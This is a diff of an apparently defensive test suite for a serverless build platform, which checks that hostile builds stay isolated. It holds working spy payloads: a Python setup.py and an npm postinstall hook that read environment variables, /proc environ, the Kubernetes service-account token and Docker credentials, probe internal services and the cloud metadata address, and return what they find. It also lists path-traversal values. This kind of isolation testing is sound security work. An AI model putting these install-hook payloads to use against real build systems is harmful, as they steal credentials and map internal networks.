@@ -184,26 +184,40 @@ def test_it_does_not_become_root(hostile):
     assert security["readOnlyRootFilesystem"] and security["capabilities"]["drop"] == ["ALL"] and security["allowPrivilegeEscalation"] is False and spec["securityContext"]["runAsNonRoot"]
 
 
-# What a build's code looks at; its words come back in the build's log.
-SPY = r'''
-import glob, os, socket, subprocess
-print("SPY-BEGIN")
-for name, value in sorted(os.environ.items()): print("ENV", name, value)
-for path in ["/proc/1/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/dev/termination-log"] + glob.glob("/var/run/sless/**", recursive=True) + glob.glob("/work/**", recursive=True)[:200]:
-    try: print("READ", path, repr(open(path, "rb").read(600)))
-    except OSError as e: print("NOT", path, e.strerror)
+# What a build's code looks at. Its words become a file of the function, which gives them out.
+SPY_PY = """
+import glob, os, socket
+out = []
+def say(*words): out.append(" ".join(str(w) for w in words))
+for name, value in sorted(os.environ.items()): say("ENV", name, value)
+paths = ["/proc/1/environ", "/proc/%d/environ" % os.getppid(), "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.docker/config.json"]
+for path in paths + glob.glob("/var/run/sless/**", recursive=True) + glob.glob("/work/**", recursive=True)[:200] + glob.glob("/tmp/**", recursive=True)[:200]:
+    try: say("READ", path, repr(open(path, "rb").read(600)))
+    except OSError as e: say("NOT", path, e.strerror)
 for host, port in TARGETS:
-    try: socket.create_connection((host, port), 2).close(); print("OPEN", host, port)
-    except OSError as e: print("SHUT", host, port, type(e).__name__)
-print("UID", os.getuid())
-print("SPY-END")
-'''
+    try: socket.create_connection((host, port), 2).close(); say("OPEN", host, port)
+    except OSError as e: say("SHUT", host, port, type(e).__name__)
+say("UID", os.getuid())
+open("evil.py", "w").write("REPORT = " + repr("\\n".join(out)))
+from setuptools import setup
+setup(name="evil", version="1", py_modules=["evil"])
+"""
+SPY_JS = """
+const fs = require("fs"), net = require("net"), path = require("path"), out = [], say = (...w) => out.push(w.join(" "));
+for (const [n, v] of Object.entries(process.env)) say("ENV", n, v);
+const read = (p) => { try { say("READ", p, JSON.stringify(fs.readFileSync(p, "latin1").slice(0, 600))) } catch (e) { say("NOT", p, e.code) } };
+const walk = (d) => { try { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else read(p) } } catch (e) { say("NOT", d, e.code) } };
+["/proc/1/environ", `/proc/${process.ppid}/environ`, "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.docker/config.json"].forEach(read); walk("/var/run/sless");
+const one = ([h, p]) => new Promise((done) => { const s = net.connect({ host: h, port: p }); s.setTimeout(2000); const end = (w) => { say(w, h, p); s.destroy(); done() };
+  s.on("connect", () => end("OPEN")); s.on("error", () => end("SHUT")); s.on("timeout", () => end("SHUT")) });
+Promise.all(TARGETS.map(one)).then(() => { say("UID", process.getuid()); fs.mkdirSync("node_modules/evil", { recursive: true }); fs.writeFileSync("node_modules/evil/report.txt", out.join("\\n")); fs.writeFileSync("report.txt", out.join("\\n")) });
+"""
 
 
 def spy_targets():
     endpoint = get("endpoints", "kubernetes", "default")["subsets"][0]
     return [(get("services", "kubernetes", "default")["spec"]["clusterIP"], 443), (endpoint["addresses"][0]["ip"], endpoint["ports"][0]["port"]), (service("sless-postgres"), 5432),
-            (service("sless-api-internal"), 8081), ("169.254.169.254", 80)]
+            (service("sless-api-internal"), 8081), ("169.254.169.254", 80)]     # the registry and S3 are open to builds, which have no credential for them
 
 
 def secrets_of_the_installation():
@@ -218,40 +232,23 @@ def secrets_of_the_installation():
     return values
 
 
-def log_of_build(shared, name):
-    def look():
-        answer = shared.api("GET", f"functions/{name}/build/logs", headers={"accept": "text/plain"})
-        return answer.status == 200 and "SPY-END" in answer.text and answer.text
-    return until(look, 150, what=shared.workload(name).why)
-
-
 def test_a_hostile_build_gets_nothing(shared, lang):
-    victim = shared.put("victim", files={"handler.py": "CANARY = 'canary-of-the-victim'\ndef handle(e, c):\n    return 1\n"}, env={"WORD": "canary-of-the-victim"})
-    victim.ready()
-    name = f"spy-{lang}"
-    spy = f"TARGETS = {spy_targets()!r}\n" + SPY
-    if lang == "py":
-        files = {"handler.py": "def handle(e, c):\n    return 1\n", "requirements.txt": "./evil\n", "evil/setup.py": spy.replace("print(", "say(").replace("import glob", "import sys\ndef say(*w): print(*w, file=sys.stderr, flush=True)\nimport glob", 1) + "\nimport sys; sys.exit('seen')\n"}
-    else:
-        js = r'''const fs = require("fs"), net = require("net"), path = require("path"); const say = (...w) => console.error(...w); say("SPY-BEGIN");
-for (const [n, v] of Object.entries(process.env)) say("ENV", n, v);
-const walk = (d) => { try { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else read(p) } } catch (e) { say("NOT", d, e.code) } };
-const read = (p) => { try { say("READ", p, JSON.stringify(fs.readFileSync(p, "latin1").slice(0, 600))) } catch (e) { say("NOT", p, e.code) } };
-["/proc/1/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token"].forEach(read); walk("/var/run/sless");
-Promise.all(TARGETS.map(([h, p]) => new Promise((done) => { const s = net.connect({ host: h, port: p }); s.setTimeout(2000); const end = (w) => { say(w, h, p); s.destroy(); done() }; s.on("connect", () => end("OPEN")); s.on("error", () => end("SHUT")); s.on("timeout", () => end("SHUT")) }))).then(() => { say("SPY-END"); process.exit(7) });
-'''.replace("TARGETS", json.dumps(spy_targets()))
-        files = {"handler.js": "exports.handle = () => 1\n", "package.json": json.dumps({"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node spy.js", "postinstall": "node spy.js"}, "dependencies": {"evil": "file:./evil"}}),
-                 "evil/package.json": json.dumps({"name": "evil", "version": "1.0.0", "scripts": {"preinstall": "node ../spy.js || node ../../spy.js"}}), "spy.js": js}
-    workload = shared.put(name, lang, files)
-    text = log_of_build(shared, name)
-    seen = {what for what, value in secrets_of_the_installation().items() if value.strip() in text}
-    assert not seen and "canary-of-the-victim" not in text, (seen, text)
-    assert "OPEN" not in text, text
+    canary = "canary-of-the-victim"
+    shared.put("victim", files={"handler.py": f"CANARY = '{canary}'\ndef handle(e, c):\n    return 1\n"}, env={"WORD": canary}).ready()
+    name, targets = f"spy-{lang}", json.dumps(spy_targets())
+    files = {"py": {"handler.py": "import evil\ndef handle(e, c):\n    return evil.REPORT\n", "requirements.txt": "./evil\n", "evil/setup.py": SPY_PY.replace("TARGETS", targets)},
+             "js": {"handler.js": "const fs = require('fs'); exports.handle = () => fs.readFileSync(['report.txt', 'node_modules/evil/report.txt'].find(fs.existsSync), 'utf8')\n", "spy.js": SPY_JS.replace("TARGETS", targets),
+                    "package.json": json.dumps({"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node spy.js"}})}}[lang]
+    shared.put(name, lang, files).ready(within=150)
+    text = shared.until(lambda: (a := shared.fn(name)).status == 200 and a, 30).text
     lines = text.splitlines()
-    assert not [line for line in lines if line.startswith("READ") and ("/secrets/" in line or "registry" in line)], text
-    # The address that the code is fetched from is for this one object, and no tool that an author runs has it.
-    assert not [line for line in lines if line.startswith("ENV CODE_URL") or "X-Amz-Signature" in line], text
-    assert workload.failed(150)["status"]["phase"] == "Failed"
+    assert any(line.startswith("ENV PATH") for line in lines) and sum(line.startswith("SHUT") for line in lines) == len(spy_targets()), text
+    assert "UID 0" not in lines and not [line for line in lines if line.startswith("OPEN")], text
+    seen = {what for what, value in secrets_of_the_installation().items() if value.strip() in text}
+    assert not seen and canary not in text, (seen, text)
+    assert not [line for line in lines if line.startswith("READ") and ("/secrets/" in line or "/registry/" in line or "docker" in line)], text
+    # The address that the code was fetched from is nobody's but the installer's.
+    assert "X-Amz-Signature" not in text and not [line for line in lines if line.startswith("ENV CODE_URL")], text
 
 
 @pytest.mark.parametrize("link", ["/etc/passwd", "../../../etc/passwd", "/var/run/sless/registry/config.json", "/proc/1/environ"])
